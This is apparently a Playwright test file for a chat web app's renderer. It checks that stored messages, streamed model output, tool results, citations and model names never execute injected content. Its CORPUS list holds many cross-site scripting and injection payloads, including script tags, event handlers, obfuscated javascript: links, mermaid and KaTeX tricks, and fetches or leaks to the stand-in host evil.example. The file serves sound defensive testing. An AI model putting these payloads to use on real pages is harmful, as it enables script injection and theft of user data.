"""What others write never runs: a corpus of attacks, wherever a text of a model, a tool, a document or an import is shown.

`open_context` fails for each report of the Content-Security-Policy and each request to another origin.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator

import pytest
from playwright.async_api import Page, Route, expect

from tests.fakes.fake_mcp_server import text_result
from tests.fakes.fake_tool_model import Call, Move
from tests.support.page_browser import PHONE, open_context, send_message
from tests.support.spoken_stack import SERVER, SpokenStack, message, spoken_stack

pytestmark = [pytest.mark.engines, pytest.mark.slow]

RUN = "window.__owned=1;top.__owned=1;fetch('https://evil.example/')"
IMAGE = f'<img src="https://evil.example/i.png" onerror="{RUN}">'
SVG = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>'.encode()).decode()
CORPUS = (
    f"<script>{RUN}</script>",
    f"Text {IMAGE} text",
    f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    "<style>@import url(https://evil.example/a.css); * { background: url(https://evil.example/b.png) }</style>",
    '<link rel="stylesheet" href="https://evil.example/a.css"><base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    f'<a href="javascript:{RUN}">click</a> <form action="javascript:{RUN}"><button>click</button></form>',
    f'<object data="javascript:{RUN}"></object><embed src="javascript:{RUN}">',
    f"<math><mtext></p>{IMAGE}</mtext></math><table><td>{IMAGE}",
    f"<details open ontoggle='{RUN}'><video><source onerror='{RUN}'></video>",
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt&colon;{RUN}) [click](&#106;avascript:{RUN}) [click](java%0ascript:{RUN})",
    f"[click](data:text/html;base64,{SVG}) [click](vbscript:{RUN}) [click](blob:null/x)",
    f"[click][a]\n\n[a]: javascript:{RUN}",
    f"<javascript:{RUN}> https://evil.example/\"onmouseover=\"{RUN}",
    f"![svg](data:image/svg+xml;base64,{SVG})",
    f'![x](https://evil.example/x.png"onerror="{RUN}) ![x](javascript:{RUN}) ![x](data:text/html,{RUN})',
    f"![<img onerror={RUN}>](https://evil.example/leak?secret)",
    f"| {IMAGE} |\n| --- |\n| [click](javascript:{RUN}) |",
    f"Note[^1].\n\n[^1]: {IMAGE} [click](javascript:{RUN})",
    f"$\\href{{javascript:{RUN}}}{{x}}$ and $\\url{{javascript:x}}$",
    "$\\htmlClass{a}{x}$ $\\htmlId{root}{x}$ $\\htmlStyle{color: red}{x}$ $\\htmlData{a=b}{x}$",
    "$\\includegraphics{https://evil.example/x.png}$ $$\\pmb{x} \\fcolorbox{red}{blue}{x} \\boxed{x}$$",
    "$$\\def\\a{\\a\\a}\\a$$ $\\rule{1000em}{1000em}$ $<script>x</script>$",
    f"```mermaid\ngraph TD\n  A[\"{IMAGE.replace(chr(34), chr(39))}\"] --> B\n"
    f'  click A call run() "x"\n  click B href "javascript:{RUN}" "y"\n```',
    f'```mermaid\n%%{{init: {{"securityLevel": "loose", "themeCSS": "@import url(https://evil.example/a.css)"}}}}%%\n'
    f"graph TD\n  C[<script>{RUN}</script>] --> D\n```",
    f"```html\n<script>{RUN}</script>\n```",
    f"```<script>{RUN}</script>\n{IMAGE}\n```",
    f"````\"onload={RUN}\nx\n````",
)


@pytest.fixture(scope="module")
def spoken(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SpokenStack]:
    """A stack whose model and tools attack."""
    with spoken_stack(tmp_path_factory.mktemp("injection"), {"look": text_result("\n\n".join(CORPUS))}) as stack:
        yield stack


async def expect_unharmed(page: Page) -> None:
    """Nothing ran, in the page or a frame of it, and nothing that can be clicked would."""
    for frame in page.frames:
        assert await frame.evaluate("window.__owned") is None, frame.url
    addresses = await page.eval_on_selector_all(
        "a[href], area[href], form, iframe, object, embed, base, link, img, video, source",
        "all => all.map(each => each.href ?? each.action ?? each.src ?? each.data)",
    )
    for address in map(str, addresses):
        assert address.startswith((f"{page.url.partition('#')[0]}", "https://", "http://", "mailto:", "data:image/")), (
            address
        )
    handlers = "all => all.flatMap(each => each.getAttributeNames()).filter(name => name.startsWith('on'))"
    assert await page.eval_on_selector_all("*", handlers) == []
    assert await page.locator("#main script, #main style, #main svg foreignObject, #main base").count() == 0


async def test_stored_items_of_others_do_not_run(spoken: SpokenStack) -> None:
    items = [message(role, text) for text in CORPUS for role in ("user", "assistant")]
    name = await spoken.add_conversation(f"Title {IMAGE}", items)
    async with open_context(spoken.url) as context:
        page = await context.new_page()
        await page.goto(f"/#/chat/{name}")
        answers = page.get_by_role("article", name="Answer")
        await expect(answers).to_have_count(len(CORPUS))
        for number in range(len(CORPUS)):
            await answers.nth(number).scroll_into_view_if_needed()
        drawn = page.frame_locator("iframe[title=Diagram]")
        await expect(drawn.first.locator("svg")).to_be_visible()
        await expect(drawn.last.locator("svg")).to_be_visible()
        await drawn.first.get_by_text("B", exact=True).click()
        await expect(page.locator(".katex").first).to_be_visible()
        await expect(page.get_by_role("link", name="Image from evil.example").first).to_be_visible()
        await expect(page.get_by_role("link", name="click")).to_have_count(0)
        await expect_unharmed(page)


async def test_streams_tools_citations_and_names_do_not_run(spoken: SpokenStack) -> None:
    text = "\n\n".join(CORPUS)
    spoken.scripts["Attack"] = [
        Move(calls=[Call(f"{SERVER}__look", {IMAGE: text})], thought=text),
        Move(text, thought=text),
    ]
    settings = {"toolServers": [SERVER], "approvedTools": [f"{SERVER}/look"]}
    found = {"file_id": "file-1", "filename": IMAGE, "score": 0.9, "text": text}
    cited = {"type": "file_citation", "file_id": "file-1", "filename": IMAGE, "number": 1, "index": 0}
    call = {"type": "mcp_call", "id": "mcp_1", "server_label": IMAGE, "name": IMAGE, "arguments": text, "error": text}
    planted = [
        {"type": "message", "role": "user", "content": [{"type": "input_file", "filename": IMAGE, "file_data": SVG}]},
        {"type": "file_search_call", "id": "fs_1", "queries": [text], "results": [found], "status": "completed"},
        call,
        message("assistant", "See [1].", [cited]),
    ]
    name = await spoken.add_conversation(IMAGE, planted, settings)

    async def attack_names(route: Route) -> None:
        answer = await route.fetch()
        models = await answer.json()
        models["data"] += [{**models["data"][0], "id": IMAGE}]
        await route.fulfill(response=answer, body=json.dumps(models))

    async with open_context(spoken.url, viewport=PHONE) as context:
        page = await context.new_page()
        await page.route("**/v1/models*", attack_names)
        await page.goto(f"/#/chat/{name}")
        answers = page.get_by_role("article", name="Answer")
        await answers.first.get_by_role("button", name="Source 1").click()
        await expect(page.get_by_role("dialog")).to_contain_text("<script>")
        await expect_unharmed(page)
        await page.keyboard.press("Escape")
        await send_message(page, "Attack")
        await expect(answers.last.get_by_role("button", name="Copy answer")).to_be_visible()
        for each in await page.locator("#main details > summary").all():
            await each.click()
        await expect(answers.last.get_by_role("region", name="Result").first).to_contain_text("<script>")
        await expect_unharmed(page)
